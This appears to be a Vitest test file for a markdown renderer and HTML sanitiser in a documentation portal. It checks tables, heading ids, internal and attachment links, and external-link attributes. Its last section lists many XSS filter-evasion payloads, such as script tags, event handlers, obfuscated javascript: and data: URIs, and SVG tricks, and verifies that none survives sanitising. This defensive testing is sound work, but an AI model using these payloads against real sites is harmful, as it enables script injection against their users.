import { Parser } from 'htmlparser2'
import { describe, expect, it } from 'vitest'
import { renderMarkdown, sanitizeDocHtml } from './markdown.js'

const EXTERNAL = 'rel="noopener noreferrer nofollow"'

interface Element {
  name: string
  attribs: Record<string, string>
}

/** The elements of some HTML as a browser-like parser sees them (entities decoded, names lower-cased). */
function elements(html: string): Element[] {
  const found: Element[] = []
  const parser = new Parser({ onopentag: (name, attribs) => found.push({ name, attribs }) }, { decodeEntities: true })
  parser.write(html)
  parser.end()
  return found
}

/** The scheme a browser would see: it drops tabs and newlines anywhere and control characters around the URL. */
function scheme(url: string): string | undefined {
  // eslint-disable-next-line no-control-regex
  const cleaned = url.replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+|[\x00-\x20]+$/g, '')
  return /^([a-z][a-z0-9+.-]*):/i.exec(cleaned)?.[1]?.toLowerCase()
}

const FORBIDDEN_TAGS = ['script', 'svg', 'math', 'iframe', 'object', 'embed', 'style', 'form', 'meta', 'base', 'link']
const ALLOWED_TAGS = new Set(
  'p br hr h1 h2 h3 h4 h5 h6 strong em del s code pre kbd sub sup blockquote ul ol li a img table thead tbody tr th td span details summary dl dt dd'.split(
    ' ',
  ),
)
const ALLOWED_ATTRIBUTES = new Set(
  'id href title rel src alt width height start align colspan rowspan class open'.split(' '),
)

function expectNoExecutableContent(html: string): void {
  const lower = html.toLowerCase()
  for (const tag of FORBIDDEN_TAGS) {
    expect(lower).not.toContain(`<${tag}`)
  }
  for (const { name, attribs } of elements(html)) {
    expect(FORBIDDEN_TAGS).not.toContain(name)
    expect(ALLOWED_TAGS.has(name), `element <${name}>`).toBe(true)
    for (const [attribute, value] of Object.entries(attribs)) {
      expect(attribute).not.toMatch(/^on/i)
      expect(ALLOWED_ATTRIBUTES.has(attribute), `attribute ${attribute} on <${name}>`).toBe(true)
      if (attribute === 'href' || attribute === 'src') {
        const used = scheme(value)
        expect(['javascript', 'vbscript', 'data']).not.toContain(used)
        expect([undefined, 'http', 'https', 'mailto']).toContain(used)
        // eslint-disable-next-line no-control-regex
        expect(value.replace(/[\x00-\x20]/g, '').toLowerCase()).not.toMatch(/javascript:|vbscript:|data:/)
      }
      if (attribute === 'src') {
        expect(value.trim()).not.toMatch(/^[/\\]{2}/)
        expect(scheme(value)).not.toBe('mailto')
      }
      if (attribute === 'class') {
        for (const c of value.split(/\s+/)) {
          expect(c).toMatch(/^(hljs(-[\w-]+)?|language-[\w+#.-]+|[a-z]+_{1,2})$/)
        }
      }
    }
  }
}

describe('renderMarkdown', () => {
  it('renders tables, with alignment as an attribute rather than a style', () => {
    const { html } = renderMarkdown('| Job | Status |\n|:---|---:|\n| NAS | OK |\n')
    expect(html).toContain('<table>')
    expect(html).toContain('<th align="left">Job</th>')
    expect(html).toContain('<td align="right">OK</td>')
    expect(html).not.toContain('style')
  })

  it('highlights fenced code in a language highlight.js knows', () => {
    const { html } = renderMarkdown('```ts\nconst x: number = 1\n```\n')
    expect(html).toMatch(/^<pre><code class="hljs language-ts"><span class="hljs-keyword">const<\/span>/)
  })

  it('keeps the sub-scope classes of highlight.js themes', () => {
    const { html } = renderMarkdown('```js\nfunction go() {}\n```\n')
    expect(html).toContain('<span class="hljs-title function_">go</span>')
  })

  it('leaves code plain (escaped) in an unknown or unnamed language: no auto-detection', () => {
    expect(renderMarkdown('```klingon\n<b>x</b> & y\n```\n').html).toBe(
      '<pre><code class="hljs">&lt;b&gt;x&lt;/b&gt; &amp; y\n</code></pre>',
    )
    expect(renderMarkdown('```\nconst x = 1\n```\n').html).toBe('<pre><code class="hljs">const x = 1\n</code></pre>')
    // Names of Object.prototype members are no languages.
    expect(renderMarkdown('```constructor\nx\n```\n').html).toBe('<pre><code class="hljs">x\n</code></pre>')
    expect(renderMarkdown('```__proto__\nx\n```\n').html).toBe('<pre><code class="hljs">x\n</code></pre>')
  })

  it('escapes HTML inside code', () => {
    const { html } = renderMarkdown('`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```\n')
    expect(html).toContain('<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>')
    expectNoExecutableContent(html)
  })

  it('gives headings unique ids and lists the h2 and h3 headings in the toc', () => {
    const { html, toc } = renderMarkdown(
      [
        '# Handleiding',
        '## Café résumé',
        '### `vpn` & routes',
        '#### Details',
        '## Café résumé',
        'Setext\n------',
        '## Café résumé 2',
        '## !!!',
      ].join('\n\n'),
    )
    expect(html).toContain('<h1 id="handleiding">Handleiding</h1>')
    expect(html).toContain('<h2 id="cafe-resume">Café résumé</h2>')
    expect(html).toContain('<h3 id="vpn-routes"><code>vpn</code> &amp; routes</h3>')
    expect(html).toContain('<h4 id="details">Details</h4>')
    expect(toc).toEqual([
      { level: 2, id: 'cafe-resume', text: 'Café résumé' },
      { level: 3, id: 'vpn-routes', text: 'vpn & routes' },
      { level: 2, id: 'cafe-resume-2', text: 'Café résumé' },
      { level: 2, id: 'setext', text: 'Setext' },
      // The slug of this heading is taken already; it still gets an id of its own.
      { level: 2, id: 'cafe-resume-2-2', text: 'Café résumé 2' },
      { level: 2, id: 'section', text: '!!!' },
    ])
  })

  it('keeps letters of other scripts in heading ids', () => {
    expect(renderMarkdown('## Резервное копирование').toc[0]?.id).toBe('резервное-копирование')
  })

  it('resolves doc: links and records the linked documents once, in order', () => {
    const { html, docLinks } = renderMarkdown(
      'See [VPN](doc:vpn#setup), [backup](/docs/backup), [VPN again](doc:vpn) and <a href="/docs/printers">printers</a>.',
    )
    expect(html).toBe(
      '<p>See <a href="/docs/vpn#setup">VPN</a>, <a href="/docs/backup">backup</a>, <a href="/docs/vpn">VPN again</a> and <a href="/docs/printers">printers</a>.</p>',
    )
    expect(docLinks).toEqual(['vpn', 'backup', 'printers'])
  })

  it('builds doc: links with docUrl, and leaves /docs/ links as they are', () => {
    const { html, docLinks } = renderMarkdown('[a](doc:vpn) [b](/docs/backup)', { docUrl: (slug) => `/portal/${slug}` })
    expect(html).toBe('<p><a href="/portal/vpn">a</a> <a href="/docs/backup">b</a></p>')
    expect(docLinks).toEqual(['vpn', 'backup'])
  })

  it('encodes odd slugs in the default document URL', () => {
    const { html } = renderMarkdown('[a](<doc://evil.example/x"y>)')
    expect(html).toBe('<p><a href="/docs/%2F%2Fevil.example%2Fx%22y">a</a></p>')
  })

  it('leaves attachment links out without attachmentUrl (plain text)', () => {
    const { html } = renderMarkdown('[the manual](attachment:manual.pdf) and ![network diagram](attachment:net.png)')
    expect(html).toBe('<p>the manual and <span>network diagram</span></p>')
  })

  it('resolves attachment links and images with attachmentUrl', () => {
    const { html } = renderMarkdown('[manual](<attachment:Schéma réseau.pdf>) ![net](attachment:net.png "Network")', {
      attachmentUrl: (name) => `/api/docs/7/attachments/${encodeURIComponent(name)}`,
    })
    expect(html).toBe(
      '<p><a href="/api/docs/7/attachments/Sch%C3%A9ma%20r%C3%A9seau.pdf">manual</a> <img src="/api/docs/7/attachments/net.png" alt="net" title="Network" /></p>',
    )
  })

  it('gives external links a rel, and no target', () => {
    const { html } = renderMarkdown(
      '[site](https://example.com "Site") <https://example.org/x?a=1&b=2> http://example.net <a href="https://x.example" target="_blank" rel="opener">x</a> piet@example.com [local](/tickets/1) [anchor](#top)',
    )
    expect(html).toContain(`<a href="https://example.com" title="Site" ${EXTERNAL}>site</a>`)
    expect(html).toContain(
      `<a href="https://example.org/x?a=1&amp;b=2" ${EXTERNAL}>https://example.org/x?a=1&amp;b=2</a>`,
    )
    expect(html).toContain(`<a href="http://example.net" ${EXTERNAL}>http://example.net</a>`)
    expect(html).toContain(`<a href="https://x.example" ${EXTERNAL}>x</a>`)
    expect(html).toContain(`<a href="mailto:piet@example.com" ${EXTERNAL}>piet@example.com</a>`)
    expect(html).toContain('<a href="/tickets/1">local</a>')
    expect(html).toContain('<a href="#top">anchor</a>')
    expect(html).not.toContain('target')
  })

  it('lets harmless raw HTML through', () => {
    const { html } = renderMarkdown(
      'Press <kbd>Ctrl</kbd>+<kbd>C</kbd>; H<sub>2</sub>O, x<sup>2</sup>.\n\n<details open><summary>More</summary>\n\nHidden *text*\n\n</details>\n\n<dl><dt>SLA</dt><dd>Agreement</dd></dl>',
    )
    expect(html).toContain('<kbd>Ctrl</kbd>+<kbd>C</kbd>; H<sub>2</sub>O, x<sup>2</sup>.')
    expect(html).toContain('<details open><summary>More</summary>\n<p>Hidden <em>text</em></p>\n</details>')
    expect(html).toContain('<dl><dt>SLA</dt><dd>Agreement</dd></dl>')
  })

  it('extracts the visible text, whitespace collapsed', () => {
    const { text } = renderMarkdown(
      '# Back-up\n\nThe **NAS** &amp; the *cloud*:\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```sh\necho "<ok>"\n```\n\n<script>alert(1)</script>\n\n![diagram](https://example.com/x.png)',
    )
    expect(text).toBe('Back-up The NAS & the cloud: one two a b 1 2 echo "<ok>"')
  })

  it('produces HTML the sanitiser leaves as it is', () => {
    const { html } = renderMarkdown(
      '## A\n\n```ts\nlet a = "x"\n```\n\n[x](https://example.com) [y](doc:y) ![z](attachment:z.png)\n\n| a |\n|:-:|\n| b |',
      { attachmentUrl: (name) => `/files/${name}` },
    )
    expect(sanitizeDocHtml(html)).toBe(html)
  })
})

describe('sanitizeDocHtml', () => {
  it.each([
    [
      'classes other than highlight.js ones',
      '<span class="hljs-string btn danger">x</span>',
      '<span class="hljs-string">x</span>',
    ],
    ['classes on other elements', '<p class="hljs">x</p>', '<p>x</p>'],
    ['ids other than on headings', '<p id="app">x</p>', '<p>x</p>'],
    ['odd heading ids', '<h2 id="a b">x</h2><h3 id="ok-1">y</h3>', '<h2>x</h2><h3 id="ok-1">y</h3>'],
    [
      'alignment other than left, center and right',
      '<table><tr><td align="justify">x</td></tr></table>',
      '<table><tr><td>x</td></tr></table>',
    ],
    ['a data: image', '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">', '<img alt="x" />'],
    ['a protocol-relative image', '<img src="//evil.example/x.png">', '<img />'],
    ['a mailto: image', '<img src="mailto:x@example.com">', '<img />'],
    [
      'a remote image',
      '<img src="https://example.com/x.png" width="10">',
      '<img src="https://example.com/x.png" width="10" />',
    ],
    ['a javascript: link, keeping its text', '<a href="javascript:alert(1)">click</a>', 'click'],
    ['an attachment link (no URL for it here)', '<a href="attachment:x.pdf">x</a>', 'x'],
    ['a doc: link', '<a href="doc:vpn">vpn</a>', '<a href="/docs/vpn">vpn</a>'],
    ['style attributes', '<p style="color:red">x</p>', '<p>x</p>'],
    ['elements outside the list, keeping their text', '<div><font>x</font></div>', 'x'],
  ])('handles %s', (_, html, expected) => {
    expect(sanitizeDocHtml(html)).toBe(expected)
  })
})

// OWASP XSS filter evasion cheat sheet style. Each is written into a document as Markdown (raw HTML is allowed in it).
const PAYLOADS: string[] = [
  // Script elements in many spellings.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/xss src="https://xss.example/xss.js"></script>',
  '<<script>alert(1);//<</script>',
  '<script src=https://xss.example/xss.js?< B >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>\nalert(1)\n</script>\n\ntext after',
  '"><script>alert(1)</script>',
  // Event handlers, odd spacing, case and slashes.
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x ONERROR="alert(1)">',
  '<img src=x onerror  =  alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" onerror\n=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover me</div>',
  '<a onmouseover=alert(1)>xx</a>',
  '<p/onclick=alert(1)>x</p>',
  '<details open ontoggle=alert(1)><summary>More</summary>body</details>',
  '<input autofocus onfocus=alert(1)>',
  '<xss onpointerenter=alert(1)>x</xss>',
  '<a href="/docs/x" onclick="alert(1)">x</a>',
  '<span class="hljs" onclick="alert(1)">x</span>',
  // javascript: in href and src with entities, tabs, newlines, mixed case.
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="java&#x0D;script:alert(1)">x</a>',
  '<a href="javas&Tab;cript&colon;alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<img src="jAvAsCrIpT:alert(1)">',
  // vbscript: and data:
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="//xss.example/x.png">',
  '<img src="/\\xss.example/x.png">',
  // SVG and MathML.
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICK</math>',
  // Frames, objects, embeds.
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://xss.example/x.html"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  // Styles.
  '<style>body { background: url("javascript:alert(1)") }</style>',
  "<style>@import 'https://xss.example/x.css';</style>",
  '<div style="width: expression(alert(1));">x</div>',
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  // Document-level elements.
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://xss.example/">',
  '<link rel="stylesheet" href="https://xss.example/x.css">',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  // Markdown link and image syntax.
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](<java\tscript:alert(1)>)',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![img](javascript:alert(1))',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![img](data:image/png;base64,iVBORw0KGgo=)',
  '[click](https://ok.example "title\\" onclick=\\"alert(1)")',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '[x][ref]\n\n[ref]: data:text/html;base64,PHNjcmlwdD4=',
  '![x][ref]\n\n[ref]: data:image/svg+xml;base64,PHN2Zz4=',
  '[x](doc:x" onclick="alert(1)) [y](<doc:javascript:alert(1)>)',
  '![x](attachment:javascript:alert(1)) [y](attachment:data:text/html,x)',
  // Autolinks.
  '<javascript:alert(1)>',
  '<vbscript:msgbox(1)>',
  '<data:text/html;base64,PHNjcmlwdD4=>',
  'www.example.com/javascript:alert(1) and javascript:alert(1)',
  // Comments and CDATA.
  '<!-- <script>alert(1)</script> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  // Unclosed tags and nested quotes.
  '<img src=x onerror=alert(1)//',
  '<a href="https://ok.example" title=\'"><script>alert(1)</script>\'>x</a>',
  '<img """><script>alert(1)</script>">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><script>alert(1)</script></textarea>',
  '<a href="https://ok.example"\nonclick=alert(1)>x</a>',
  '## <img src=x onerror=alert(1)> Heading',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '> <iframe src="https://xss.example"></iframe>',
]

describe('XSS payloads', () => {
  it('are many', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40)
  })

  it.each(PAYLOADS)('leave nothing executable: %s', (payload) => {
    expectNoExecutableContent(renderMarkdown(payload).html)
    // A careless attachmentUrl and docUrl that pass names on as they are: the allowlist still applies.
    expectNoExecutableContent(renderMarkdown(payload, { attachmentUrl: (name) => name, docUrl: (slug) => slug }).html)
    expectNoExecutableContent(sanitizeDocHtml(payload))
  })

  it.each([
    ['<div onmouseover="alert(1)">hover me</div>', 'hover me'],
    ['<a href="javascript:alert(1)">click</a>', 'click'],
    ['<details open ontoggle=alert(1)><summary>More</summary>body</details>', 'More body'],
    ['<script>\nalert(1)\n</script>\n\ntext after', 'text after'],
    ['<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>', 'XSS'],
    ['[click](javascript:alert(1))', '[click](javascript:alert(1))'],
    ['## <img src=x onerror=alert(1)> Heading', 'Heading'],
    ['<a href="https://ok.example"\nonclick=alert(1)>x</a>', 'x'],
  ])('keep their harmless text: %s', (payload, text) => {
    expect(renderMarkdown(payload).text).toBe(text)
  })
})
